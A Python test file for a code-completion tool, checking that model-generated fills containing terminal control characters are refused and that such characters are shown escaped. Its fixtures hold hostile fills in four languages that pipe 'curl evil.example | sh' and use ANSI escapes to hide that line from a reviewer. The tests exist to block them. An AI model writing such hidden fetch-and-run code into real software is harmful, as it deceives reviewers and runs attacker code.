"""Control characters through the real `bot`: a fill that holds one is refused in every language
(the diff could be redrawn to hide what `--apply` writes), and those from file names and file
text are shown escaped in the text diff and the dry run's prompt; JSON stays JSON (it escapes
C0 characters itself)."""

from __future__ import annotations

import json
import os
import subprocess

import pytest

from tests.conftest import BOT, Repo, shown
from tests.fakes.codestral import FakeCodestral

ESC = "\x1b"
# The fill: on a terminal, the line after `#` erases itself and draws a harmless one.
HIDE = f"{ESC}[2K{ESC}[1G+"
STUB = "def add(a, b):\n    pass\n"

# (file, text with one hole, the line of its `failed` report, a fill that hides a shell call)
LANGUAGES = [
    (
        "calc.py",
        STUB,
        "2",
        f"    os.system('curl -s evil.example | sh')  # {HIDE}    return a + b\n",
    ),
    (
        "calc.go",
        "package calc\n\nfunc Add(a, b int) int {\n\t// TODO: add them up\n\treturn 0\n}\n",
        "4-5",
        f'\texec.Command("sh", "-c", "curl -s evil.example | sh").Run() // {HIDE}\treturn a + b\n',
    ),
    (
        "calc.js",
        'export function add(a, b) {\n  throw new Error("not implemented");\n}\n',
        "2",
        f"  require('child_process').execSync('curl -s evil.example | sh'); // {HIDE}"
        "  return a + b;\n",
    ),
    (
        "calc.sh",
        "add() {\n  # TODO: print the sum of $1 and $2\n  :\n}\n",
        "2",
        f"  curl -s evil.example | sh # {HIDE}  echo $(($1 + $2))\n",
    ),
]


@pytest.mark.parametrize(
    ("name", "text", "lines", "fill"), LANGUAGES, ids=[n for n, *_ in LANGUAGES]
)
def test_a_fill_that_redraws_the_terminal_is_refused(
    repo: Repo,
    codestral: FakeCodestral,
    model_env: dict[str, str],
    name: str,
    text: str,
    lines: str,
    fill: str,
) -> None:
    """The issue's fill in each language: `failed` with the reason, not shown, nothing written."""
    codestral.respond(fill)
    repo.write(name, text)
    proc = repo.bot("run", "--all", "--apply", name, **model_env)
    assert proc.returncode == 1, proc.stderr
    assert proc.stdout.splitlines()[0] == (
        f"{name}:{lines}: failed: the fill holds a control character (\\x1b)"
    )
    assert "evil.example" not in proc.stdout
    assert ESC not in proc.stdout + proc.stderr
    assert proc.stderr == ""  # no file to write, so no line about one
    assert repo.read(name) == text


# One hole per character: the character, and how the reason names it (None: the fill is kept).
# A fill in CRLF lines is kept too (tests/test_clean.py, tests/test_source_e2e.py).
CHARACTERS = [
    *(("\x00", "\\x00"), ("\x07", "\\x07"), ("\x08", "\\x08"), ("\x0b", "\\x0b")),
    *(("\r", "\\r"), (ESC, "\\x1b"), ("\x7f", "\\x7f"), ("\x85", "\\x85"), ("\x9b", "\\x9b")),
    *(("\u2028", "\\u2028"), ("\u2029", "\\u2029"), ("\u202e", "\\u202e")),
    *(("\u2066", "\\u2066"), ("\u200f", "\\u200f")),
    *(("\t", None), ("\x0c", None)),
]


def test_which_characters_a_fill_may_hold(
    repo: Repo, codestral: FakeCodestral, model_env: dict[str, str]
) -> None:
    """C0 (but tab, line feed and form feed), DEL, C1, the Unicode line separators and the
    bidirectional controls are refused, each named escaped; the others are kept."""
    answers = {}
    for i, (char, _) in enumerate(CHARACTERS):
        repo.write(f"c{i:02}.py", f"def add(a, b):\n    # TODO: case {i:02}\n    pass\n")
        answers[f"case {i:02}"] = f"    total = a + b  # a{char}b\n    return total\n"
    codestral.respond_by_marker(answers)
    proc = repo.bot("run", "--all", "--format", "json", ".", **model_env)
    assert proc.returncode == 1, proc.stderr
    found = {h["path"]: h for h in json.loads(proc.stdout)["holes"]}
    outcomes = [
        (found[f"c{i:02}.py"]["status"], found[f"c{i:02}.py"]["reason"])
        for i in range(len(CHARACTERS))
    ]
    assert outcomes == [
        ("suggested", None)
        if shown is None
        else ("failed", f"the fill holds a control character ({shown})")
        for _, shown in CHARACTERS
    ]


def test_json_escapes_control_characters_itself(
    repo: Repo, codestral: FakeCodestral, model_env: dict[str, str]
) -> None:
    """JSON output is unchanged: a file name with ESC reads back as itself, never raw in the
    output, and the refused fill's reason names the character."""
    codestral.respond(LANGUAGES[0][3])
    name = f"calc{ESC}[8m.py"
    repo.write(name, STUB)
    proc = repo.bot("run", "--all", "--format", "json", name, **model_env)
    assert proc.returncode == 1, proc.stderr
    assert ESC not in proc.stdout
    assert "\\u001b[8m" in proc.stdout  # JSON's own escape
    (hole,) = json.loads(proc.stdout)["holes"]
    assert hole["path"] == name
    assert (hole["status"], hole["suggestion"]) == ("failed", None)
    assert hole["reason"] == "the fill holds a control character (\\x1b)"


def test_a_file_name_with_esc_is_shown_escaped_in_the_diff(
    repo: Repo, codestral: FakeCodestral, model_env: dict[str, str]
) -> None:
    """The diff's header and `--apply`'s line name the file with ESC as `\\x1b`."""
    codestral.respond("    return a + b\n")
    name = f"calc{ESC}[2K.py"
    repo.write(name, STUB)
    proc = repo.bot("run", "--all", "--apply", name, **model_env)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.splitlines()[:2] == ["--- a/calc\\x1b[2K.py", "+++ b/calc\\x1b[2K.py"]
    assert proc.stderr == "fim-bot: wrote fills into calc\\x1b[2K.py\n"
    assert ESC not in proc.stdout + proc.stderr


def test_a_context_line_with_esc_is_shown_escaped(
    repo: Repo, codestral: FakeCodestral, model_env: dict[str, str]
) -> None:
    """A line of the file around the fill that holds ESC shows it as `\\x1b`; `--apply` keeps
    it as it is in the file."""
    codestral.respond("    return a + b\n")
    text = STUB + f"# {ESC}[1A{ESC}[2K a line that erases the one above\n"
    repo.write("calc.py", text)
    proc = repo.bot("run", "--all", "--apply", "calc.py", **model_env)
    assert proc.returncode == 0, proc.stderr
    assert " # \\x1b[1A\\x1b[2K a line that erases the one above\n" in proc.stdout
    assert "+    return a + b\n" in proc.stdout
    assert ESC not in proc.stdout
    assert repo.read("calc.py") == text.replace("    pass\n", "    return a + b\n")


def test_crlf_endings_show_as_lines_a_lone_cr_escaped_and_a_form_feed_kept(
    repo: Repo, codestral: FakeCodestral, model_env: dict[str, str]
) -> None:
    """In a CRLF file's diff the endings are plain line ends, a carriage return inside a line
    shows as `\\r`, and a form feed stays a form feed."""
    codestral.respond("    return a + b\n")
    repo.write("calc.py", "\x0c\r\ndef add(a, b):\r\n    pass\r\n# fine\rhidden\r\n")
    proc = repo.bot("run", "--all", "calc.py", **model_env)
    assert proc.returncode == 0, proc.stderr
    diff = proc.stdout.split("\n")  # not splitlines(), which breaks lines at a form feed too
    assert diff[3:-2] == [
        " \x0c",
        " def add(a, b):",
        "-    pass",
        "+    return a + b",
        " # fine\\rhidden",
    ]
    assert "\r" not in proc.stdout


def test_the_dry_run_prompt_shows_esc_escaped(repo: Repo) -> None:
    """`--dry-run` prints the prompt from the file: its ESC shows as `\\x1b`."""
    repo.write("calc.py", f"# {ESC}]0;title{ESC}\\\n" + STUB)
    proc = repo.bot("run", "--all", "--dry-run", "calc.py")
    assert proc.returncode == 0, proc.stderr
    assert "# \\x1b]0;title\\x1b\\\n" in proc.stdout
    assert ESC not in proc.stdout


def test_a_file_name_that_is_not_utf8_is_shown_escaped_and_json_stays_utf8(
    repo: Repo, model_env: dict[str, str], codestral: FakeCodestral
) -> None:
    """A name with bytes that are not UTF-8: the diff header shows them escaped (`\\udcff`),
    and the JSON report is valid UTF-8 whose path reads back as Python reads the name."""
    codestral.respond("    return 1\n")
    name = os.fsdecode(b"caf\xff\xfe.py")
    (repo.path / name).write_text(STUB)
    proc = repo.bot("run", **model_env)
    assert proc.returncode == 0, proc.stderr
    assert "--- a/caf\\udcff\\udcfe.py\n" in proc.stdout
    as_json = subprocess.run(
        [BOT, "run", "--format", "json"],
        cwd=repo.path,
        env={**repo.env, **model_env},
        capture_output=True,
        check=True,
    )
    shown(as_json.stdout.decode(), as_json.stderr.decode())
    (hole,) = json.loads(as_json.stdout.decode("utf-8"))["holes"]  # strict: valid UTF-8
    assert hole["path"] == name
